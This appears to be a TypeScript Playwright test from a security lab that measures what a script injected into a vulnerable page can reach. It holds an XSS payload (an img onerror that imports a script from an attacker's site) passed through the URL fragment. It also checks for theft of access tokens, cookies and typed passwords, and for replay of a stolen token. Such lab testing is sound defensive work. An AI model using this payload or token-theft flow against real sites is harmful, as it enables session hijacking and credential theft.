// What a script can do that somebody injects into the lab's page while a user is logged in.
import type { BrowserContext } from 'playwright-core';
import type { Attacker } from './attacker.js';
import type { Observation } from './places.js';
import { addressOf, logIn, openPage, type Place } from './storage-page.js';

export async function observeInjection(
  browser: BrowserContext,
  lab: string,
  attacker: Attacker,
  place: Place,
): Promise<Observation> {
  const page = await openPage(browser, lab, place);
  const { body } = await logIn(page);
  const credential =
    body.access_token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
  if (!credential) throw new Error('The log-in gave no credential');

  // The page's hole: what follows #greeting= becomes part of it, as HTML.
  const markup = `<img src="" onerror="import('${attacker.otherSite}/injected.js')">`;
  await page.goto(`${addressOf(lab, place)}#greeting=${encodeURIComponent(markup)}`);
  const [read, sentAlong] = await attacker.collect(2);
  const { readable, me } = JSON.parse(read?.body ?? '');
  await page.getByLabel('Password').fill('a new password');
  const [typed] = await attacker.collect(1);
  await page.close();

  const text = JSON.stringify(readable);
  const goesToOtherSite = [text, read?.cookie].some((each) => each?.includes(credential));
  return {
    isRead: text.includes(credential),
    goesToOtherSite,
    goesToOtherPort: [text, sentAlong?.cookie].some((each) => each?.includes(credential)),
    worksElsewhere: goesToOtherSite && (await opens(lab, place, credential)),
    isUsed: me.username === 'alice',
    isPasswordRead: JSON.parse(typed?.body ?? '').typed === 'a new password',
  };
}

/** Whether a token that was taken away opens the door, with no browser about. */
async function opens(lab: string, { mode }: Place, token: string): Promise<boolean> {
  const answer = await fetch(`${lab}/api/${mode}/me`, { headers: { authorization: `Bearer ${token}` } });
  return answer.ok;
}
